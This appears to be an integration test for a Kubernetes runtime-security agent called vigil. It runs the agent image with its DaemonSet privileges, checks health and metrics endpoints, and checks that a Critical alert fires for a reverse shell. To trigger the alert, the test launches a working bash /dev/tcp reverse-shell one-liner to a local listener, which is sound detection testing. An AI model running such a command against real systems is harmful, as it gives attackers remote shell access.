import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { kustomizeUnavailable, MANIFESTS, REPO, renderDir, type K8sObject } from '../helpers/kustomize.js';
import { docker, integrationUnavailable } from './docker-env.js';
import { freePort, type JsonAlert } from './harness/agent.js';
import { listen, type Listener } from './harness/listener.js';
import { bridgeGateway, removeAllPods, runPod } from './harness/pods.js';

/**
 * The image as the DaemonSet runs it: built with the real Docker engine from
 * the local Node.js base (no registry), started with the rendered
 * DaemonSet's security context, host namespaces and host mounts translated
 * to `docker run` flags, then asked for /readyz and /metrics and shown a
 * reverse shell in a kubelet-layout pod beside it.
 */
const TOOLS = 'vigil-test/tools:latest';
const IMAGE = 'vigil:it';
const unavailable = integrationUnavailable() ?? kustomizeUnavailable();

/**
 * rslave needs the source's mount to be shared or slave. Kubernetes nodes
 * make / shared (systemd does; kubelet requires it for HostToContainer);
 * a test VM may leave it private, where the bind mount works without it.
 */
function propagates(path: string): boolean {
  const p = execFileSync('findmnt', ['-no', 'PROPAGATION', '--target', path], { encoding: 'utf8' }).trim();
  if (!/shared|slave/.test(p)) console.warn(`[vigil] ${path} is a ${p} mount here: bound without rslave`);
  return /shared|slave/.test(p);
}

interface Translated {
  readonly args: string[];
  readonly env: Record<string, string>;
  readonly containerArgs: string[];
}

/**
 * `docker run` flags for the DaemonSet's pod: user, read-only root,
 * capabilities, no-new-privileges, host PID and network, hostPath volumes as
 * bind mounts (HostToContainer as rslave), emptyDirs as tmpfs; the rules
 * ConfigMap and the node-local state directory become temp directories.
 */
function translate(ds: any, rulesDir: string, stateDir: string): Translated {
  const pod = ds.spec.template.spec;
  const c = pod.containers[0];
  const sc = c.securityContext;
  const args: string[] = [];
  args.push('--user', `${sc.runAsUser}:${sc.runAsGroup ?? sc.runAsUser}`);
  if (sc.readOnlyRootFilesystem) args.push('--read-only');
  if (sc.privileged) args.push('--privileged');
  if (sc.allowPrivilegeEscalation === false) args.push('--security-opt', 'no-new-privileges');
  for (const cap of sc.capabilities.drop ?? []) args.push('--cap-drop', cap);
  for (const cap of sc.capabilities.add ?? []) args.push('--cap-add', cap);
  // RuntimeDefault seccomp is the engine's default profile: nothing to add.
  if (pod.securityContext?.seccompProfile?.type !== 'RuntimeDefault') throw new Error('expected a RuntimeDefault seccomp profile');
  if (pod.hostPID) args.push('--pid', 'host');
  if (pod.hostNetwork) args.push('--network', 'host');
  const volumes = new Map<string, any>(pod.volumes.map((v: any) => [v.name, v]));
  for (const m of c.volumeMounts) {
    const v = volumes.get(m.name);
    const ro = m.readOnly ? ':ro' : ':rw';
    const prop = m.mountPropagation === 'HostToContainer' && propagates(v.hostPath?.path) ? ',rslave' : '';
    if (v.hostPath && v.hostPath.type === 'DirectoryOrCreate') args.push('-v', `${stateDir}:${m.mountPath}${ro}`);
    else if (v.hostPath) args.push('-v', `${v.hostPath.path}:${m.mountPath}${ro}${prop}`);
    else if (v.configMap) args.push('-v', `${rulesDir}:${m.mountPath}${ro}`);
    else if (v.emptyDir) args.push('--tmpfs', `${m.mountPath}:rw,nosuid,nodev,size=${v.emptyDir.sizeLimit ?? '16Mi'}`.replace(/Mi$/, 'm'));
    else throw new Error(`volume ${m.name}: no translation`);
  }
  const env: Record<string, string> = {};
  for (const e of c.env) {
    if ('value' in e) env[e.name] = e.value;
    else if (e.valueFrom?.fieldRef?.fieldPath === 'spec.nodeName') env[e.name] = hostname();
    else throw new Error(`env ${e.name}: no translation`);
  }
  return { args, env, containerArgs: c.args ?? [] };
}

describe.skipIf(unavailable)('the agent image under the DaemonSet security context', () => {
  let objs: K8sObject[];
  let tmp: string;
  let name: string;
  let port: number;
  let logs: ChildProcess;
  let stdout = '';
  const listeners: Listener[] = [];

  beforeAll(async () => {
    execFileSync('bash', [join(REPO, 'test/images/build-agent-image.sh'), IMAGE], { stdio: ['ignore', 'ignore', 'inherit'] });
    objs = renderDir(join(MANIFESTS, 'base'));
    const ds = objs.find((o) => o.kind === 'DaemonSet');
    const rulesCm = objs.find((o) => o.kind === 'ConfigMap' && o.metadata.name === 'vigil-rules') as any;
    tmp = mkdtempSync(join(tmpdir(), 'vigil-image-it-'));
    const rulesDir = join(tmp, 'rules');
    const stateDir = join(tmp, 'state');
    mkdirSync(rulesDir);
    mkdirSync(stateDir);
    for (const [file, text] of Object.entries(rulesCm.data as Record<string, string>)) writeFileSync(join(rulesDir, file), text);
    const t = translate(ds, rulesDir, stateDir);
    // Host network: a free loopback port instead of :9867, so parallel runs
    // on this machine do not collide (the only departure from the manifest).
    port = await freePort();
    t.env.VIGIL_METRICS_ADDR = `127.0.0.1:${port}`;
    t.env.VIGIL_GRPC_ADDR = `127.0.0.1:${await freePort()}`;
    t.env.VIGIL_SCAN_INTERVAL_MS = '1000';
    name = `vigil-image-it-${process.pid}`;
    const envArgs = Object.entries(t.env).flatMap(([k, v]) => ['-e', `${k}=${v}`]);
    docker('run', '-d', '--name', name, ...t.args, ...envArgs, IMAGE, ...t.containerArgs);
    logs = spawn('docker', ['logs', '-f', name], { stdio: ['ignore', 'pipe', 'inherit'] });
    logs.stdout!.setEncoding('utf8').on('data', (d: string) => (stdout += d));
  }, 900_000);

  afterAll(async () => {
    removeAllPods();
    for (const l of listeners.splice(0)) await l.close();
    if (name) {
      try {
        docker('stop', '-t', '5', name);
        // It stopped on SIGTERM by itself, cleanly.
        expect(docker('inspect', '-f', '{{.State.ExitCode}}', name)).toBe('0');
      } finally {
        docker('rm', '-f', name);
      }
    }
    logs?.kill();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it("runs with exactly the manifest's privileges", () => {
    const hc = JSON.parse(docker('inspect', '-f', '{{json .HostConfig}}', name));
    expect(hc).toMatchObject({ ReadonlyRootfs: true, Privileged: false, PidMode: 'host', NetworkMode: 'host' });
    expect(hc.CapDrop.map((c: string) => c.replace(/^CAP_/, ''))).toEqual(['ALL']);
    expect(hc.CapAdd.map((c: string) => c.replace(/^CAP_/, '')).sort()).toEqual(['DAC_READ_SEARCH', 'NET_ADMIN', 'SYS_PTRACE']);
    expect(docker('inspect', '-f', '{{.Config.User}}', name)).toBe('0:0');
  });

  it('serves /readyz and /metrics', async () => {
    const deadline = Date.now() + 60_000;
    let ready: Response | undefined;
    while (Date.now() < deadline) {
      try {
        ready = await fetch(`http://127.0.0.1:${port}/readyz`);
        if (ready.status === 200) break;
      } catch {
        // not listening yet
      }
      await new Promise((r) => setTimeout(r, 250));
    }
    expect(ready?.status, docker('logs', '--tail', '50', name)).toBe(200);
    const metrics = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
    expect(metrics).toMatch(/^vigil_build_info\{.*version="0\.1\.0".*\} 1$/m);
    expect(metrics).toMatch(/^vigil_exec_source_info\{mode="netlink"\} 1$/m);
    expect(metrics).toMatch(/^node_filesystem_avail_bytes\{/m);
    expect(metrics).toMatch(/^container_cpu_usage_seconds_total\{/m);
  });

  it('raises a Critical alert for a reverse shell in a kubelet-layout pod beside it', async () => {
    const gateway = bridgeGateway();
    const listener = await listen(gateway);
    listeners.push(listener);
    const pod = runPod({
      namespace: 'shop',
      pod: 'image-it-web',
      container: 'app',
      image: TOOLS,
      command: ['bash', '-c', `bash -i >& /dev/tcp/${gateway}/${listener.port} 0>&1`],
    });
    await listener.waitForConnection(15_000);
    const deadline = Date.now() + 15_000;
    let alert: JsonAlert | undefined;
    while (!alert && Date.now() < deadline) {
      alert = stdout
        .split('\n')
        .filter((l) => l.startsWith('{'))
        .map((l) => JSON.parse(l) as JsonAlert)
        .find((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod.pod);
      if (!alert) await new Promise((r) => setTimeout(r, 200));
    }
    expect(alert, `alerts:\n${stdout.slice(-3000)}`).toBeDefined();
    expect(alert!.priority).toBe('Critical');
    expect(alert!.output_fields).toMatchObject({ 'k8s.ns.name': 'shop', 'k8s.container.name': 'app', 'container.id': pod.id.slice(0, 12), 'proc.name': 'bash' });
  });
});
